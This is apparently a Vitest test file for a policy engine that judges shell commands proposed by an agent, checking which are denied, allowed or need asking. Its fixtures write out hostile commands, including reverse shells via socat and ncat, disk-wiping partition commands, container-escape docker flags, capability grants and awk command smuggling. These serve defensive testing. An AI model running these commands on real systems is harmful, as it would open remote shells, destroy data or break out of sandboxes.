import { describe, expect, it } from "vitest";
import { judge } from "../judge.ts";
import { defaultPolicy } from "../settings/policy.ts";

const HOME = "/home/agent";
const decide = (text: string) =>
  judge(text, { profile: "trusted", home: HOME, workspace: `${HOME}/app`, cwd: `${HOME}/app` }, defaultPolicy).decision;

describe("P91 a harmless word beside it does not hide a danger", () => {
  it.each([
    "parted -s /dev/sdzz mklabel gpt print",
    "sgdisk --zap-all /dev/sdzz -p",
    "sfdisk --delete /dev/sdzz -l",
    "dmsetup remove invented list",
    "btrfs subvolume delete /invented",
    "docker run -v /home/../etc:/w invented:dev ls",
    "docker run --mount type=bind,src=/,dst=/h invented",
    "docker container run --security-opt seccomp=unconfined invented",
    "docker run --pid host invented",
    "socat exec:sh,pty tcp-connect:192.0.2.1:1",
    "ncat --sh-exec=sh 192.0.2.1 1",
    "pkill --uid 0 invented",
    "setcap cap_net_raw,cap_setuid+ep invented",
    "crontab -eu root",
  ])("%s", (line) => {
    expect(decide(line)).toBe("deny");
  });
});

describe("P91 a dangerous word in a text is not the danger itself", () => {
  it.each([
    "parted /dev/sdzz unit MiB print free",
    "wipefs -an /dev/sdzz",
    "fdisk -l",
    "docker run --rm invented:dev grep -- --privileged README.md",
    'docker exec web grep -r -- "--pid host" .',
    'docker compose run --rm web echo "-v /:/h"',
    "nc -vz localhost 5432",
    "systemctl status reboot",
    "crontab -u root -l",
    "sysctl kernel.hostname",
  ])("%s", (line) => {
    expect(decide(line)).not.toBe("deny");
  });
});

it.each([
  "git -C lib config core.hooksPath hooks",
  "kubectl --context prod config use-context other",
  "npm --prefix lib config set registry https://npm.example.net",
  "docker --context a context use b",
  "aws --profile x configure set region y",
])("P96 an option before the verb does not hide it: %s", (line) => {
  expect(decide(line)).toBe("ask");
});

it("P15 hashes and counts are no text that could be code, unless more is printed with them", () => {
  expect(decide("git checkout $(git log -1 --format=%H)")).not.toBe("deny");
  expect(judge('n=$(git log -p --format=%H); bash -c "echo $n"', {}, defaultPolicy).decision).not.toBe("allow");
});

it.each([
  `psql -c "select pg_terminate_backend(1)"`,
  `psql -c "select lo_export(1, '/tmp/x')"`,
  `psql -c "select query_to_xml('delete from t', true, true, '')"`,
])("P97 functions that administrate a server ask in every profile: %s", (line) => {
  expect(decide(line)).toBe("ask");
});

it.each(["git config --get-all http.https://git.example.net/.extraheader", "git config sendemail.smtpPass"])(
  "P96 a setting that holds a password is a secret: %s",
  (line) => {
    expect(decide(line)).toBe("ask");
  },
);

it.each([
  "awk -v c='rm src/a' 'BEGIN{print 1 | c}'",
  "awk 'BEGIN{system(ARGV[1])}' 'rm src/a'",
  "base64 -o ~/.profile x",
  "wall hello",
  "write agent < x",
])("P96 asks in every profile: %s", (line) => {
  expect(decide(line)).toBe("ask");
});

it("P1 a text that mentions a path is not shown as a path", () => {
  const { matches } = judge('gh pr create --title x --body "see ~/.ssh/id_rsa"', {}, defaultPolicy);

  expect(matches.map(({ rule }) => rule)).toEqual(["publishes"]);
});
